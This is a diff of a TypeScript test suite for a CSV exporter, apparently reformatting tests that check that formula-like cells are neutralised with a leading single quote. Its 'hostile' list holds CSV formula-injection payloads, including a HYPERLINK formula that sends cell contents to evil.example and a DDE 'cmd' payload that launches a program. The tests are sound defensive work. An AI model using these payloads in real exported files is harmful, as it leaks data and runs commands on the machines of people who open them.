@@ -54,7 +54,7 @@ describe('csv', () => {
   describe('cells from the catalog that look like formulas', () => {
     const hostile = [
       '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
-      '+1+cmd|\' /C calc\'!A0',
+      "+1+cmd|' /C calc'!A0",
       '-2+3',
       '@SUM(1,2)',
       '\t=1+1',
@@ -62,8 +62,7 @@ describe('csv', () => {
       '\uFF1D1+1', // full-width equals, which Apple Numbers treats as =
     ];
     // What a spreadsheet reads back from the CSV cell: a text value.
-    const neutralised = (value: string) =>
-      `"'${value.replace(/"/g, '""')}"`;
+    const neutralised = (value: string) => `"'${value.replace(/"/g, '""')}"`;
 
     it.each(hostile)(
       'quotes the team name and title %j with a leading single quote',
@@ -89,7 +88,9 @@ describe('csv', () => {
         ]);
         expect(csv).toBe(
           'team,title,services,not_started,planning,in_progress,migrated,decommissioned,retired,done,compliant_done,adoption_percent,compliant_adoption_percent\r\n' +
-            `${neutralised(value)},${neutralised(value)},1,1,0,0,0,0,0,0,0,0.0,0.0\r\n`,
+            `${neutralised(value)},${neutralised(
+              value,
+            )},1,1,0,0,0,0,0,0,0,0.0,0.0\r\n`,
         );
       },
     );
